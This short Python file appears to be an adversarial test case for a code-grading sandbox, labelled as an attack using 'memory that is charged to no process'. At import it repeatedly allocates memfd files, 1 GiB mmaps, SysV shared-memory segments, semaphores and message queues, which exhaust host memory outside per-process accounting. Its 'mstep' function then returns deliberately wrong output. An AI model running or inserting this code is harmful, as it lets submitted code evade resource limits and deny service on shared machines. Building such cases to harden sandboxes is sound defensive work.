# attack: memory that is charged to no process
# outcome: mstep wrong
# %% cell mstep
import ctypes
import mmap
import os
import socket

system = ctypes.CDLL(None, use_errno=True)
made = []
for _ in range(20):
    for make in (lambda: os.memfd_create("x"), lambda: mmap.mmap(-1, 1 << 30)):
        try:
            made.append(make())
        except OSError:
            pass
    made += [n for n in [system.shmget(0, ctypes.c_size_t(1 << 30), 0o1600)] if n >= 0]
    made += [n for n in [system.semget(0, 1000, 0o1600), system.msgget(0, 0o1600)] if n >= 0]


def mstep(x, posterior):
    return [float(len(made))] * 3, [0.0] * 3, [0.0] * 3
